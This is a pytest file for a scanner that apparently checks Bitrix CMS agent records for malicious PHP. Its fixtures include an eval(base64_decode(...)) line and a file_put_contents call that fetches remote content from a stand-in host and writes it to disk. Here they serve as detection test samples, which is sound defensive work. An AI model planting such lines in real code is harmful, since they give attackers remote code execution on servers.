"""Agents of one kind are analyzed once, and each agent has its own findings."""

import json

import pytest

from palisade.operators import tables
from palisade.operators.rules import Rule, named_by_number

NAMES = ["eval(base64_decode('x'));", "file_put_contents('a', file_get_contents('http://a.example.org/x'));", "CFoo::Run();"]
SCHEMA = "ID string, MODULE_ID string, NAME string, ACTIVE string"


@pytest.mark.parametrize("kinds", [tables.KINDS, 0])
def test_a_kind_is_analyzed_once(spark, monkeypatch, kinds):
    monkeypatch.setattr(tables, "KINDS", kinds)
    given, scanned = [], tables.scanned
    monkeypatch.setattr(tables, "scanned", lambda files, *a, **k: given.append(files.count()) or scanned(files, *a, **k))
    ids = [*map(str, range(299)), ".access"]
    agents = spark.createDataFrame([(i, "main", n, "y") for i in ids for n in NAMES], SCHEMA)
    found = tables.scan_agents(agents, spark.createDataFrame([("main",)], "module_id string")).collect()
    assert given == [6]  # three names, at the usual place and at that of .access.php
    assert sorted((r.ID, r.file_path) for r in found) == sorted((i, f"bitrix-db://b_agent/{i}") for i in ids for _ in NAMES[:2])
    for r in found:
        signatures = [f.signature_id for f in r.findings]
        assert ("bitrix_suspicious_access_php" in signatures) == (r.ID == ".access") and r.score == sum(f.score for f in r.findings)
        assert ("path:hidden" in r.tags) == (r.ID == ".access")
        for f in r.findings:
            trace = json.loads(f.trace)
            assert list(trace)[:7] == ["entity", "table", "id", "module_id", "active", "next_exec", "last_exec"] and trace["id"] == r.ID
            assert f.file in (None, f"{r.file_path}.php") and (f.file is not None or f.signature_id != "external_url_detected")
    assert len({f.fingerprint for r in found for f in r.findings}) == sum(len(r.findings) for r in found)


def test_names_that_are_numbers_are_at_no_known_place():
    of = lambda **place: named_by_number(".php", [Rule("x", "c", "low", 1, "p", **place)])
    assert not named_by_number(".php") and not of(path_equals="/.access.php") and not of()
    assert of(path_equals="/12.php") and of(path_equals="php") and of(path_equals=".php") and of(path_contains="b_agent")
